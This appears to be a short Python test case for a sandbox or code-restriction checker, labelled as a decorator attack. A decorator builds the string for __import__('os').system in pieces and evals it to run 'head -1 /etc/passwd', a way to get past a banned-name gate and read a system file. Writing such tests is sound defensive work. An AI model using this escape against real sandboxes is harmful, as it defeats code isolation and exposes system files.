# attack: decorators that turn a class into an eval of built code
# covers: decorator
# gate: banned_name eval
# ungated: ok
# layer: hidden_host_paths
# needs: hidden_host_paths
@eval
@(lambda _cls: "__imp" + "ort__('o' + 's').system('head -1 /etc/passwd 2>&1')")
class Payload:
    pass


print("the decorators returned", Payload)
